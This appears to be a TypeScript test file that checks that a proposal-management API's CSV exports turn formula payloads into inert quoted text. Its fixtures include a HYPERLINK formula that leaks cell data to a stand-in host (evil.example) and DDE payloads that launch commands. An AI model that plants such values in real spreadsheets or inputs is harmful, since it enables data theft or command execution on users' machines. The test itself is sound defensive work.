import t from 'tap';
import { allInOne } from '../scripts/all-in-one.js';
import { caller } from './support/api.js';
import { cast, CODES } from './support/story.js';
import { databaseKinds, lifecycleService, startSystem, testClock } from './support/system.js';

/** Splits one CSV line of RFC 4180 cells (no line breaks inside cells here). */
function cells(line: string): string[] {
  const out: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/g;
  for (let m = re.exec(line); m && m[0] !== ''; m = re.exec(line)) out.push(m[1]!);
  return out;
}

const payloads = {
  title: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  county: "+cmd|' /C calc'!A0",
  industry: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  principalInvestigator: '-2+3+cmd|\' /C calc\'!A0',
};

for (const kind of databaseKinds().kinds) {
  t.test(`formula payloads typed into the API come out of the CSV exports as text, not formulas (${kind})`, async (t) => {
    const clock = testClock('2018-06-01T02:00:00Z');
    const services = allInOne.services.map((s) => (s.name === 'lifecycle-api' ? lifecycleService({ env: clock.env, redriver: false }) : s));
    const system = await startSystem(t, kind, services, { GONGGUAN_ENV: 'test' });
    const call = caller(system.url);
    const people = await cast(system);
    clock.set('2018-05-01T02:00:00Z');
    await call('POST', '/v1/programmes', { token: people.alice, body: { programmeId: 'tz-csv', name: '-1 programme', bureau: '@bureau', quota: 3, focusIndustries: [payloads.industry] } });
    await call('POST', '/v1/programmes/tz-csv/solicitation/opening', { token: people.alice, body: { opensOn: '2018-05-01', closesOn: '2018-07-31' } });
    clock.set('2018-06-01T02:00:00Z');
    const submitted = await call('POST', '/v1/programmes/tz-csv/proposals', {
      token: people.alice,
      body: {
        projectId: 'p-csv', title: payloads.title, leadEnterprise: { name: 'X', creditCode: CODES.lead }, industry: payloads.industry, county: payloads.county,
        principalInvestigator: { name: payloads.principalInvestigator }, keyTechnologies: ['k'], requestedFunding: 100,
      },
    });
    t.equal(submitted.status, 201, JSON.stringify(submitted.body).slice(0, 200));
    const reporter = await system.token('reporter', 'rita');
    const position = encodeURIComponent(String(submitted.body.position));
    const res = await fetch(`${system.url}/v1/reporting/exports/projects.csv?minPosition=${position}`, { headers: { authorization: `Bearer ${reporter}` } });
    t.equal(res.status, 200);
    const lines = (await res.text()).replace(/^\uFEFF/, '').split('\r\n');
    const header = cells(lines[0]!);
    const row = lines.map(cells).find((c) => c[header.indexOf('project_id')] === 'p-csv');
    if (!row) throw new Error('p-csv is not in the export');
    const at = (column: string) => row[header.indexOf(column)];
    t.equal(at('title'), `"'${payloads.title.replace(/"/g, '""')}"`, 'the title is quoted text behind a single quote');
    t.equal(at('county'), `"'${payloads.county}"`);
    t.equal(at('industry'), `"'${payloads.industry}"`);
    t.equal(at('requested_funding'), '100', 'a number stays a number');
    for (const cell of row) t.notMatch(cell, /^[=+\-@\t\r]/, `no cell starts like a formula: ${cell}`);

    const report = await fetch(`${system.url}/v1/reporting/annual.csv?year=2018&minPosition=${position}`, { headers: { authorization: `Bearer ${reporter}` } });
    t.equal(report.status, 200);
    for (const line of (await report.text()).replace(/^\uFEFF/, '').split('\r\n')) {
      for (const cell of cells(line)) t.notMatch(cell, /^[=+\-@\t\r]/, 'no cell of the annual report starts like a formula');
    }
  });
}
